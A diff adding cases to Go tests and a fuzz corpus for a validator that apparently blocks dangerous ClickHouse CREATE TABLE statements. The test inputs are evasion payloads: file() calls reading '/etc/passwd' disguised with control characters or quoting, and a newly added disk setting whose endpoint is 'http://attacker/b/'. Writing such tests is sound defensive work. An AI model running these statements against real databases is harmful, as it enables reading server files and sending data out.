@@ -33,6 +33,7 @@ func TestCheckCreate(t *testing.T) {
 		"a double-quoted name":      "CREATE TABLE guardian.zz (`p` String DEFAULT \"Fi\\le\" ('/etc/passwd')) ENGINE = MergeTree ORDER BY p",
 		"a form feed before (":      "CREATE TABLE guardian.zz (`p` String DEFAULT file\f('/etc/passwd')) ENGINE = MergeTree ORDER BY p",
 		"a vertical tab in a disk":  "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS disk = disk\v(type = s3)",
+		"a quoted disk":             "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS disk = `disk`(type = s3, endpoint = 'http://attacker/b/')",
 		"a dictionary read":         "CREATE TABLE guardian.zz (`p` String DEFAULT dictGetString('d', 'a', 1)) ENGINE = MergeTree ORDER BY p",
 		"a cluster function":        "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY urlCluster(p)",
 		"a table function in a key": "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY S3 (p)",
@@ -80,6 +81,7 @@ func FuzzCheckCreate(f *testing.F) {
 	f.Add("CREATE TABLE guardian.zz (`p` String) ENGINE = URL('http://a/', TSV)")
 	f.Add("CREATE TABLE guardian.zz (`x` String DEFAULT file('a')) ENGINE = MergeTree ORDER BY x")
 	f.Add("000000Merge()0ENGINE MergeTree")
+	f.Add("CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS disk = \"disk\"(type = s3)")
 	f.Fuzz(func(t *testing.T, s string) {
 		if checkCreate(s) != nil {
 			return
